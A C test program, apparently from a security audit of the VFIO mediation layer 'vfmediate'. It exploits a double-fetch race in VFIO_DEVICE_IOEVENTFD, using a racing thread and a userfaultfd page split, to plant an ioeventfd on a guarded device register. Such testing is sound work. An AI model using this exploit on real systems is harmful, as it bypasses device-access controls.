// SPDX-License-Identifier: GPL-2.0
/*
 * VFIO_DEVICE_IOEVENTFD against a BAR register a rule guards (issue 12,
 * hole 1): vfmediate copies the argument, checks its offset, then lets
 * vfio-pci-core copy it again. Whoever changes the offset in between gets
 * an ioeventfd on the guarded register, and vfio-pci-core then writes it
 * for them whenever the eventfd is signalled.
 *
 *   ioeventfd once  GROUP BDF BAR OFF
 *	register a 4-byte ioeventfd at OFF, unregister it again; also
 *	unregister one never registered (fd == -1). Prints both results.
 *   ioeventfd race  GROUP BDF BAR GUARDED FREE TRIES
 *	with one ioeventfd registered at FREE, thread A registers another
 *	one (EEXIST while it reads FREE twice), thread B flips the offset
 *	between FREE and GUARDED; TRIES attempts or the first win.
 *   ioeventfd uffd  GROUP BDF BAR GUARDED FREE
 *	deterministic: the argument straddles a page boundary, the second
 *	page under userfaultfd; the offset (on the first page) is FREE
 *	while vfmediate's copy runs and GUARDED for vfio-pci-core's.
 *
 * A win: an ioeventfd got registered at GUARDED (seen by unregistering
 * it there), and signalling it changed the guarded register (read back
 * with pread: GUARDED must be readable, e.g. under a ro rule; edu's
 * liveness register at 0x04 reads back the inverse of what was written).
 * Last line: "result: tries=N ... wins=N changed=0|1". Exit 1 on a win,
 * 0 when the rule held, 2 when the variant cannot run here.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "common.h"

struct target {
	struct vdev dev;
	unsigned int bar;
	uint64_t guarded, free;	/* device fd offsets */
	uint32_t before;	/* the guarded register before the attack */
	int efd;
};

static int ioeventfd(struct target *t, uint64_t offset, uint64_t data, int fd)
{
	struct vfio_device_ioeventfd ev = {
		.argsz = sizeof(ev),
		.flags = VFIO_DEVICE_IOEVENTFD_32,
		.offset = offset,
		.data = data,
		.fd = fd,
	};

	return xioctl(t->dev.fd, VFIO_DEVICE_IOEVENTFD, &ev);
}

/* Signal the eventfd; did the guarded register change within a second? */
static int fire_changed(struct target *t)
{
	uint64_t one = 1;
	int i;

	if (write(t->efd, &one, sizeof(one)) != sizeof(one))
		die("eventfd write");
	for (i = 0; i < 100; i++) {
		if (bar_read32(&t->dev, t->bar, t->guarded - t->dev.region_off[t->bar]) !=
		    t->before)
			return 1;
		usleep(10000);
	}
	return 0;
}

/*
 * A register succeeded while one at the free offset already exists (a
 * second one there fails EEXIST): it landed on the guarded offset. Fire
 * it once, see whether the guarded register changed, unregister it.
 */
static int landed_guarded(struct target *t, int *changed)
{
	/* data == before: the register then reads back ~before */
	*changed = fire_changed(t);
	if (ioeventfd(t, t->guarded, t->before, -1)) {
		errno = EIO;
		die("registered, but not at the guarded offset");
	}
	return 1;
}

static void setup(struct target *t, char **argv)
{
	vdev_open(&t->dev, argv[0], argv[1]);
	t->bar = strtoul(argv[2], NULL, 0);
	if (t->bar > VFIO_PCI_BAR5_REGION_INDEX) {
		errno = EINVAL;
		die("BAR");
	}
	t->guarded = t->dev.region_off[t->bar] + strtoull(argv[3], NULL, 0);
	t->efd = new_eventfd();
}

static int cmd_once(char **argv)
{
	struct target t;
	uint64_t off;
	int reg, unreg = -1, stray;

	setup(&t, argv);
	off = t.guarded;
	reg = ioeventfd(&t, off, 0, t.efd);
	if (!reg)
		unreg = ioeventfd(&t, off, 0, -1);
	stray = ioeventfd(&t, off, 0x5a5a, -1);
	printf("result: register=%s unregister=%s stray-unregister=%s\n",
	       errname(reg), unreg < 0 ? "-" : errname(unreg), errname(stray));
	return EXIT_HELD;
}

static void report(struct target *t, unsigned long tries,
		   const struct tally *tl, int wins, int changed)
{
	printf("result: tries=%lu", tries);
	tally_print(tl);
	printf(" wins=%d changed=%d guarded=%#llx before=%#x\n", wins, changed,
	       (unsigned long long)(t->guarded - t->dev.region_off[t->bar]),
	       t->before);
}

static int cmd_race(char **argv)
{
	struct vfio_device_ioeventfd ev = { 0 };
	struct flipper f = { 0 };
	struct tally tl = { { 0 } };
	unsigned long tries, max;
	struct target t;
	int wins = 0, changed = 0, err;

	setup(&t, argv);
	t.free = t.dev.region_off[t.bar] + strtoull(argv[4], NULL, 0);
	max = strtoul(argv[5], NULL, 0);
	t.before = bar_read32(&t.dev, t.bar, t.guarded - t.dev.region_off[t.bar]);
	ev.argsz = sizeof(ev);
	ev.flags = VFIO_DEVICE_IOEVENTFD_32;
	ev.offset = t.free;
	ev.data = t.before;
	ev.fd = t.efd;
	/* Both offsets are in one BAR: they differ in the low 32 bits only. */
	f.word = (volatile uint32_t *)&ev.offset;
	f.a = (uint32_t)t.free;
	f.b = (uint32_t)t.guarded;
	/*
	 * One ioeventfd at the free offset first: the racing calls that read
	 * the free offset twice then fail EEXIST, cheaply, instead of
	 * registering and unregistering, and the time spent between the two
	 * copies grows from a sliver to a good part of each call.
	 */
	err = ioeventfd(&t, t.free, t.before, t.efd);
	printf("preregister: %s\n", errname(err));
	flipper_start(&f);
	for (tries = 0; tries < max && !wins; tries++) {
		err = xioctl(t.dev.fd, VFIO_DEVICE_IOEVENTFD, &ev);
		tally_add(&tl, err);
		if (!err)
			wins = landed_guarded(&t, &changed);
	}
	flipper_stop(&f);
	ioeventfd(&t, t.free, t.before, -1);
	printf("flips: %lu\n", f.flips);
	report(&t, tries, &tl, wins, changed);
	return wins ? EXIT_WON : EXIT_HELD;
}

static void flip_to_guarded(struct uffd_split *s)
{
	struct target *t = s->ctx;
	struct vfio_device_ioeventfd *ev =
		(void *)(s->page[1] - offsetof(struct vfio_device_ioeventfd, data));

	ev->offset = t->guarded;
}

static int cmd_uffd(char **argv)
{
	struct vfio_device_ioeventfd *ev;
	struct uffd_split s = { 0 };
	struct tally tl = { { 0 } };
	int wins = 0, changed = 0, err;
	struct target t;

	setup(&t, argv);
	t.free = t.dev.region_off[t.bar] + strtoull(argv[4], NULL, 0);
	t.before = bar_read32(&t.dev, t.bar, t.guarded - t.dev.region_off[t.bar]);
	err = uffd_split_init(&s);
	if (err) {
		printf("uffd: userfaultfd: %s\n", errname(err));
		skip("no userfaultfd that serves kernel faults for this user");
	}
	/* argsz, flags, offset on the first page; data, fd on the second */
	ev = (void *)(s.page[1] - offsetof(struct vfio_device_ioeventfd, data));
	ev->argsz = sizeof(*ev);
	ev->flags = VFIO_DEVICE_IOEVENTFD_32;
	ev->offset = t.free;
	memcpy(s.fill, &t.before, sizeof(t.before));	/* data: 8 bytes LE */
	memcpy(s.fill + offsetof(struct vfio_device_ioeventfd, fd) -
	       offsetof(struct vfio_device_ioeventfd, data), &t.efd,
	       sizeof(t.efd));
	s.on_fault = flip_to_guarded;
	s.ctx = &t;
	uffd_split_arm(&s);
	err = xioctl(t.dev.fd, VFIO_DEVICE_IOEVENTFD, ev);
	uffd_split_wait(&s);
	tally_add(&tl, err);
	if (!err)
		wins = landed_guarded(&t, &changed);
	printf("uffd: faults=%d\n", s.faults);
	report(&t, 1, &tl, wins, changed);
	return wins ? EXIT_WON : EXIT_HELD;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 6 && !strcmp(argv[1], "once"))
		return cmd_once(argv + 2);
	if (argc == 8 && !strcmp(argv[1], "race"))
		return cmd_race(argv + 2);
	if (argc == 7 && !strcmp(argv[1], "uffd"))
		return cmd_uffd(argv + 2);
	fprintf(stderr,
		"usage: %s once GROUP BDF BAR OFF\n"
		"       %s race GROUP BDF BAR GUARDED FREE TRIES\n"
		"       %s uffd GROUP BDF BAR GUARDED FREE\n",
		argv[0], argv[0], argv[0]);
	return EXIT_BROKEN;
}
